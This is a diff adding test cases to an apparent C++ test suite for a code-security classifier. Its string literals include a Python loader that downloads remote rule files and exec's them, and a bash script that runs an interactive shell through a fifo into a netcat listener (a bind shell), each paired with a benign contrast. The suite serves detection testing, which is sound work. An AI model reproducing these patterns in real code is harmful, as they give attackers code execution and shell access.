@@ -1,5 +1,6 @@
 // The classes the twenty-fourth session modelled (issue 14), from the tune
-// part of the ninety-ninth round (tests/corpus/prog103_MANIFEST.tsv):
+// parts of the ninety-ninth round and later ones (tests/corpus/prog103_MANIFEST.tsv,
+// prog104_MANIFEST.tsv, ...):
 // programs written from the rubric alone by writers who never saw the
 // assessor. Strings here are never executed.
 #include "test_util.hpp"
@@ -167,6 +168,99 @@ TEST(NinetyNinthRoundClasses, PrintfRepeatsItsFormatForEveryArgument) {
        "python3 -m venv .venv\n"
        ".venv/bin/python -m pip install -q -r requirements.lock.txt\n",
        "INSTALLS-PACKAGES", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A glob of a directory finds the files written there under names partly
+// made at run time: rule files named in a downloaded index, saved as
+// valuation_plugins/broker_<name>.py, are what `glob("*.py")` then
+// compiles and runs. Downloads kept in another directory are not.
+TEST(HundredthRoundClasses, AGlobFindsFilesWrittenUnderPartlyRunTimeNames) {
+  const Case cases[] = {
+      {"downloaded rule files saved as broker_<name>.py, then every *.py exec'd", B,
+       "import json, urllib.request\n"
+       "from pathlib import Path\n"
+       "\n"
+       "PLUGINS = Path(\"valuation_plugins\")\n"
+       "\n"
+       "def refresh(feed):\n"
+       "    PLUGINS.mkdir(exist_ok=True)\n"
+       "    index = json.load(urllib.request.urlopen(feed, timeout=15))\n"
+       "    for entry in index.get(\"rules\", []):\n"
+       "        target = PLUGINS / f\"broker_{entry['name']}.py\"\n"
+       "        with urllib.request.urlopen(entry[\"url\"], timeout=30) as resp:\n"
+       "            target.write_bytes(resp.read())\n"
+       "\n"
+       "def load():\n"
+       "    rules = {}\n"
+       "    for path in sorted(PLUGINS.glob(\"*.py\")):\n"
+       "        ns = {}\n"
+       "        exec(compile(path.read_text(), str(path), \"exec\"), ns)\n"
+       "        rules[path.stem] = ns.get(\"adjust\")\n"
+       "    return rules\n"
+       "\n"
+       "refresh(\"https://rules.broker.example/index.json\")\n"
+       "print(load())\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"the downloads kept as JSON in a cache; the plugins directory's own files exec'd", M,
+       "import json, urllib.request\n"
+       "from pathlib import Path\n"
+       "\n"
+       "PLUGINS = Path(\"valuation_plugins\")\n"
+       "CACHE = Path(\"feed_cache\")\n"
+       "\n"
+       "def refresh(feed):\n"
+       "    CACHE.mkdir(exist_ok=True)\n"
+       "    index = json.load(urllib.request.urlopen(feed, timeout=15))\n"
+       "    for entry in index.get(\"rules\", []):\n"
+       "        target = CACHE / f\"broker_{entry['name']}.json\"\n"
+       "        with urllib.request.urlopen(entry[\"url\"], timeout=30) as resp:\n"
+       "            target.write_bytes(resp.read())\n"
+       "\n"
+       "def load():\n"
+       "    rules = {}\n"
+       "    for path in sorted(PLUGINS.glob(\"*.py\")):\n"
+       "        ns = {}\n"
+       "        exec(compile(path.read_text(), str(path), \"exec\"), ns)\n"
+       "        rules[path.stem] = ns.get(\"adjust\")\n"
+       "    return rules\n"
+       "\n"
+       "refresh(\"https://rules.broker.example/index.json\")\n"
+       "print(load())\n",
+       "DYNAMIC-CODE"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// sh -c CODE NAME ARGS...: NAME is the code's $0 and ARGS its $1, $2 ...
+// An interactive bash piped through a fifo into "$2" "${@:3}" (nc -l -p
+// 7070) is a bind shell; the same loop running gzip over scans is not.
+TEST(HundredthRoundClasses, ShellCodeGetsItsPositionalParameters) {
+  const Case cases[] = {
+      {"bash -i through a fifo into the relay and options given as arguments", B,
+       "#!/bin/bash\n"
+       "ch=.desk/console\n"
+       "mkdir -p .desk && rm -f \"$ch\" && mkfifo \"$ch\"\n"
+       "relay=nc\n"
+       "opts=(-l -p 7070)\n"
+       "nohup bash -c '\n"
+       "  while :; do\n"
+       "    /bin/bash -i <\"$1\" 2>&1 | \"$2\" \"${@:3}\" >\"$1\"\n"
+       "    sleep 1\n"
+       "  done' desk \"$ch\" \"$relay\" \"${opts[@]}\" >/dev/null 2>&1 &\n",
+       "REVERSE-SHELL", SH},
+      {"the same loop compressing scans with the tool given as an argument", L,
+       "#!/bin/bash\n"
+       "log=.desk/scan.log\n"
+       "mkdir -p .desk\n"
+       "tool=gzip\n"
+       "opts=(-k -9)\n"
+       "nohup bash -c '\n"
+       "  for f in \"$1\"/*.pgm; do\n"
+       "    \"$2\" \"${@:3}\" \"$f\"\n"
+       "  done' desk scans \"$tool\" \"${opts[@]}\" >\"$log\" 2>&1 &\n",
+       nullptr, SH},
   };
   for (const auto& c : cases) check(c);
 }
